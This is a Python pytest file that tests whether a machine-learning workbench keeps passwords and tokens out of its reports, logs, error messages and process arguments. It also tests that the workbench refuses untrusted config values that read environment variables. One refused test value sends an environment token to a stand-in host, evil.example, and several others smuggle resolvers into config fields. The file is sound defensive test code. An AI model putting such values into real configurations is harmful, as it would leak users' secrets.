"""Passwords: used where they are needed, and written down, printed and tracked nowhere."""

from __future__ import annotations

import base64
import io
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from cases import Kind, case
from commands import command

from fusion_workbench.cli.terminal import harmless
from fusion_workbench.config.study import load_study, study_from_yaml, to_yaml
from fusion_workbench.core.errors import WorkbenchError
from fusion_workbench.study.tracking import Tracker
from fusion_workbench.system.mlflow_uri import check_uri, without_password
from fusion_workbench.tools import ui

SECRET = "s3cretPW"
STUDY = """
name: secret
encoder: {{name: {encoder}, image_size: 56, precision: float32}}
source: {{name: finescenes, options: {{train: 16, val: 8, test: 8, size: 56}}}}
tasks: [digit]
strategies: [{{name: deep_only}}, {{name: concat}}]
selections: [{{levels: [1, 2]}}]
baselines: false
replicates: 1
plan: {{confirm: []}}
search: {{learning_rates: [0.003]}}
training: {{epochs: 1, batch_size: 8, head_hidden: 8}}
"""
BARE = "name: bare\nstrategies: [{name: concat}]\nselections: [{levels: [3, 6]}]\n"


@pytest.fixture
def server(tmp_path: Path, mlflow_template: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """A real MLflow server that answers whoever gives the password, and nobody else; its address with the password."""
    import mlflow.server as mlflow_server
    from werkzeug.serving import WSGIRequestHandler, make_server

    database = tmp_path / "server.db"
    shutil.copy(mlflow_template, database)
    monkeypatch.setenv(mlflow_server.BACKEND_STORE_URI_ENV_VAR, f"sqlite:///{database}")
    monkeypatch.setenv(mlflow_server.ARTIFACT_ROOT_ENV_VAR, (tmp_path / "artifacts").as_uri())
    key = "Basic " + base64.b64encode(f"wb:{SECRET}".encode()).decode()

    def guarded(environment: dict[str, Any], start: Callable[..., Any]) -> Any:
        if environment.get("HTTP_AUTHORIZATION") != key:
            start("401 Unauthorized", [])
            return []
        return mlflow_server.app(environment, start)

    class Silent(WSGIRequestHandler):
        def log(self, *words: Any) -> None:
            pass

    served = make_server("127.0.0.1", 0, guarded, threaded=True, request_handler=Silent)
    thread = threading.Thread(target=served.serve_forever, daemon=True)
    thread.start()
    yield f"http://wb:{SECRET}@127.0.0.1:{served.server_port}"
    served.shutdown()
    thread.join()


@case(
    Kind.SECRETS,
    "a study is tracked at http://user:password@host, typed on the command line",
    "it runs with it; page, tables, study.yaml, MLflow's params and tags, ledger and terminal show user:…@host",
)
def test_a_study_writes_no_password_down(
    server: str,
    tiny_dinov2: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "secret.yaml").write_text(STUDY.format(encoder=tiny_dinov2))
    words = ("sweep", "secret.yaml", f"tracking.uri={server}", "tracking.experiment=theirs", "-w", "W")
    assert command(monkeypatch, *words) == 0
    assert command(monkeypatch, *words) == 0  # and again: it finds its runs by the address in memory
    told = "".join(capfd.readouterr())
    assert "kept 2 from before" in told
    assert SECRET not in told
    written = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert {"study.yaml", "report.html", "report.json", "ledger.db", "server.db", "tables.tex"} <= {
        path.name for path in written
    }
    assert [str(path) for path in written if SECRET.encode() in path.read_bytes()] == []
    shown = without_password(server).encode()
    where = {path.name for path in written if shown in path.read_bytes()}
    assert {"study.yaml", "report.html", "server.db"} <= where  # as a param, and in workbench.command


@case(
    Kind.SECRETS,
    "a database's password in tracking.uri, and the database cannot be opened, or its driver is missing",
    "one line, with user:…@host",
)
@pytest.mark.parametrize(
    "uri",
    [
        f"postgresql+nodriver://wb:{SECRET}@127.0.0.1:1/wb",
        f"postgresql://wb@127.0.0.1:1/wb?password={SECRET}",
        f"mssql+nodriver:///?odbc_connect=UID%3Dwb%3BPWD%3D{SECRET}",
        f"ftp://wb:{SECRET}@host/wb",
        f"http://wb:{SECRET}@[host",
    ],
)
def test_an_address_that_cannot_be_opened(
    uri: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(WorkbenchError) as refused:
        Tracker(uri, "x", tmp_path)
    assert SECRET not in str(refused.value)
    assert command(monkeypatch, "report", "x", "--uri", uri, "-w", str(tmp_path)) == 2
    told = "".join(capfd.readouterr())
    assert "error: " in told
    assert "Traceback" not in told
    assert SECRET not in told


@case(Kind.SECRETS, "a wrong key or value beside a password on the command line", "the message repeats no password")
@pytest.mark.parametrize(
    "override", [f"tracking.url=postgresql://wb:{SECRET}@h/d", f"tracking={{uri: [postgresql://wb:{SECRET}@h/d]}}"]
)
def test_a_wrong_override(
    override: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    assert command(monkeypatch, "sweep", "quickstart", override, "-w", str(tmp_path)) == 2
    told = capfd.readouterr().err
    assert told.startswith("error: ")
    assert SECRET not in told


@case(
    Kind.SECRETS,
    "addresses of every kind: passwords with /, @, # and blanks, tokens as names, ?password= and ?token=",
    "shown without; hosts, ports, users and paths stay",
)
@pytest.mark.parametrize(
    ("uri", "shown"),
    [
        ("postgresql://me:pw@host:5432/db", "postgresql://me:…@host:5432/db"),
        ("postgresql+psycopg2://wb:p@ss/w#or?d@h/db", "postgresql+psycopg2://wb:…@h/db"),
        ("mysql://u:my pass@h/db", "mysql://u:…@h/db"),
        ("postgresql://wb:12345@h/db", "postgresql://wb:…@h/db"),
        ("https://ghp_token@host/x", "https://…@host/x"),
        ("http://:pw@host", "http://:…@host"),
        ("postgresql://h/db?user=a&password=pw&sslmode=x", "postgresql://h/db?user=a&password=…&sslmode=x"),
        ("https://h/?access_token=pw", "https://h/?access_token=…"),
        ("mssql+pyodbc:///?odbc_connect=PWD%3Dpw", "mssql+pyodbc:///?odbc_connect=…"),
        ("'postgresql://a:pw@h/x', then 'http://b:pw@h'", "'postgresql://a:…@h/x', then 'http://b:…@h'"),
        ("http://host:5000/x@y", "http://host:5000/x@y"),
        ("MLflow at http://host:5000 cannot be opened: a@b", "MLflow at http://host:5000 cannot be opened: a@b"),
        ("sqlite:////home/a:b@c/mlflow.db", "sqlite:////home/a:b@c/mlflow.db"),
        ("postgresql://wb@h/db", "postgresql://wb@h/db"),
        ("databricks://profile:name", "databricks://profile:name"),
    ],
)
def test_what_is_shown_of_an_address(uri: str, shown: str) -> None:
    assert without_password(uri) == shown
    assert without_password(shown) == shown
    assert harmless(uri) == shown


@case(
    Kind.SECRETS,
    "the study.yaml that a study wrote down is run again, its address without the password",
    "refused; asks for the password, rather than trying to log in with …",
)
def test_an_address_that_lost_its_password() -> None:
    study = study_from_yaml(BARE, "s.yaml", [f"tracking.uri=postgresql://wb:{SECRET}@h/d"])
    assert study.tracking.uri.endswith(f":{SECRET}@h/d")  # in memory it stays what it was
    again = study_from_yaml(to_yaml(study), "study.yaml")
    assert again.tracking.uri == "postgresql://wb:…@h/d"
    with pytest.raises(WorkbenchError, match="written down without its password; give it anew"):
        check_uri(again.tracking.uri)


@case(
    Kind.SECRETS,
    "workbench ui on a database with a password",
    "MLflow gets it from the environment, not as an argument that ps shows",
)
def test_the_pages_of_mlflow(monkeypatch: pytest.MonkeyPatch) -> None:
    from fusion_workbench.system.console import WordsConsole

    started: list[tuple[list[str], dict[str, str]]] = []

    class Server:
        def __init__(self, command: list[str], env: dict[str, str]) -> None:
            started.append((command, env))

        def __enter__(self) -> Server:
            return self

        def __exit__(self, *error: object) -> None:
            pass

        def wait(self) -> int:
            return 0

    monkeypatch.setattr(subprocess, "Popen", Server)
    out = io.StringIO()
    uri = f"postgresql://wb:{SECRET}@h/d"
    assert ui.serve(WordsConsole(file=out), uri, 50_123) == 0
    ((typed, environment),) = started
    assert SECRET not in " ".join(typed) + out.getvalue()
    assert environment["MLFLOW_BACKEND_STORE_URI"] == uri


@case(
    Kind.SECRETS,
    "a stranger's study asks for ${oc.env:TOKEN}, or another resolver, in a word, a list or an option",
    "refused; names the key, and how to give what the environment holds",
)
@pytest.mark.parametrize(
    ("line", "key"),
    [
        ("question: ${oc.env:WORKBENCH_TOKEN}", "question"),
        ("question: 'a ${oc.env:WORKBENCH_TOKEN,none} b'", "question"),
        ("tasks: [read, '${oc.decode:${oc.env:WORKBENCH_TOKEN}}']", "tasks.1"),
        ("source: {options: {train: '${oc.create:{a: 1}}'}}", "source.options.train"),
        ("source: {options: {a: oc.env, b: '${${.a}:WORKBENCH_TOKEN}'}}", "source.options.b"),
        ("tracking: {uri: 'http://evil.example/${oc.env:WORKBENCH_TOKEN}'}", "tracking.uri"),
    ],
)
def test_the_environment_of_whoever_runs_a_study(
    line: str, key: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("WORKBENCH_TOKEN", SECRET)
    (tmp_path / "s.yaml").write_text(BARE + line)
    with pytest.raises(WorkbenchError) as refused:
        load_study(str(tmp_path / "s.yaml"))
    assert f"'{key}' is " in str(refused.value)
    assert f'{key}="$NAME"' in str(refused.value)
    assert SECRET not in str(refused.value)


@case(
    Kind.SECRETS,
    "a study refers to keys of its own, ${training.epochs}",
    "works; in a circle, or growing without end: refused",
)
def test_references_to_keys() -> None:
    study = study_from_yaml(BARE + "question: 'Is ${name} done in ${training.epochs}, with ${.name}?'", "s.yaml")
    assert study.question == "Is bare done in 8, with bare?"
    with pytest.raises(WorkbenchError, match="'question' refers, by way of others, to itself"):
        study_from_yaml(BARE + "question: ${tasks[0]}\ntasks: ['${question}']", "s.yaml")
    options = ", ".join(f"a{n}: '{f'${{.a{n - 1}}}' * 10}'" for n in range(1, 12))
    with pytest.raises(WorkbenchError, match="grows by its references beyond 1,000,000 characters"):
        study_from_yaml(f"{BARE}source: {{options: {{a0: {'x' * 100}, {options}}}}}", "s.yaml")
